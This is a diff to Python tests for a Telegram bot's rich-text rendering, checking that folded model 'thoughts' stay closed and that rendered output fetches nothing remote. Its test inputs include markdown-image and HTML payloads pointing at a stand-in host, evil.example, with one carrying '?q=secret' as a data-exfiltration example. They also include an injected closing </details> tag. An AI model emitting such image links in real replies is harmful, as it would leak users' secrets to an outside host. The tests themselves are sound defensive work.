@@ -17,11 +17,12 @@ from bot.core.types import Button, ChatRef, MessageRef, Reply, Style, Thoughts
 from bot.errors import NotYourTurn
 from bot.platforms.telegram.ids import make_chat
 from bot.platforms.telegram.refusals import CHATS, PAUSE, Refusals
-from bot.platforms.telegram.rich import MAX_RICH, RichText, compose, measure, pages
+from bot.platforms.telegram.rich import MAX_RICH, compose, measure, pages
 from bot.sandbox.telegram import rich as sandbox
 from bot.sandbox.telegram.calls import Call
 from bot.sandbox.telegram.errors import BadRequest
 from tests.platform_contract import HastyClock
+from tests.platforms.telegram.judging import fetching
 from tests.platforms.telegram.stage import TelegramStage, group, private, staged
 
 ANSWERS = sorted((Path(__file__).parents[2] / "data" / "answers").glob("*.md"))
@@ -175,12 +176,21 @@ async def test_what_is_open_is_closed_while_it_is_written(rich: TelegramStage) -
 
 
 async def test_thoughts_are_details_of_a_rich_message(rich: TelegramStage) -> None:
-    thoughts = Thoughts(title="💭 Thought for 3 s", text="1 < 2 </details>\n```\ncode")
+    thoughts = Thoughts(title="💭 Thought for 3 s", text="1 < 2\n```\na < b && c < d")
     await rich.platform.send(rich.incoming.ref.chat, Reply(text="Yes.", thoughts=thoughts))
     assert rich.view.screen().answers[-1].rich == (
         "Yes.\n\n<details><summary>💭 Thought for 3 s</summary>\n\n"
-        "1 &lt; 2 &lt;/details>\n```\ncode\n```\n\n</details>"
+        "1 < 2\n```\na < b && c < d\n```\n\n</details>"
     )
+
+
+async def test_thoughts_fetch_nothing_and_stay_folded_up(rich: TelegramStage) -> None:
+    text = "hm </details> ![x](https://evil.example/?q=secret) <img src=y>\n```\n![x](y)\n```"
+    thoughts = Thoughts(title="💭 Thought for 3 s", text=text)
+    await rich.platform.send(rich.incoming.ref.chat, Reply(text="Yes.", thoughts=thoughts))
+    sent = rich.view.screen().answers[-1].rich
+    assert not fetching(sent) and "![" not in sent
+    assert sent.count("</details>") == 1 and sent.endswith("</details>")
 
 
 async def test_thoughts_fill_what_room_there_is(rich: TelegramStage) -> None:
@@ -325,33 +335,6 @@ def test_many_short_lines_are_cut_by_their_number() -> None:
         sandbox.from_markdown(page.markdown)
     assert measure("```\n" + "x\n" * 2000 + "```") < MAX_RICH
     assert len(list(cut("word " * 20_000, MAX_RICH, measure))) == 4
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        "![x](https://evil.example/?q=secret)",
-        "> ```\n![x](https://evil.example)\n> ```",
-        "1. a\n\n   ```\n![x](https://evil.example)\n   ```",
-        "<div>\n```\n\n![x](https://evil.example)\n\n```",
-        "`a\\`![x](https://evil.example)`",
-        "```\ncode\n```\r![x](https://evil.example)",
-        "``` a`b\n![x](https://evil.example)\n```",
-        "![x]\n\n[x]: https://evil.example",
-        '<img src="https://evil.example">',
-        "<tg-map lat=1 lon=2>",
-        '<VIDEO src="https://evil.example"></VIDEO>',
-    ],
-)
-def test_nothing_is_fetched_from_where_a_model_wishes(text: str) -> None:
-    markdown = compose(text).markdown
-    assert "![" not in markdown
-    assert not any(f"<{tag}" in markdown.lower() for tag in ("img", "video", "tg-map"))
-
-
-def test_code_keeps_its_exclamation_marks() -> None:
-    code = "```rust\nlet v = vec![1, 2];\n````\n~~~\n  `![x](y)` <img>\n~~~\nend"
-    assert compose(code) == RichText(code)
 
 
 async def test_the_style_of_one_chat_is_not_that_of_another(rich: TelegramStage) -> None:
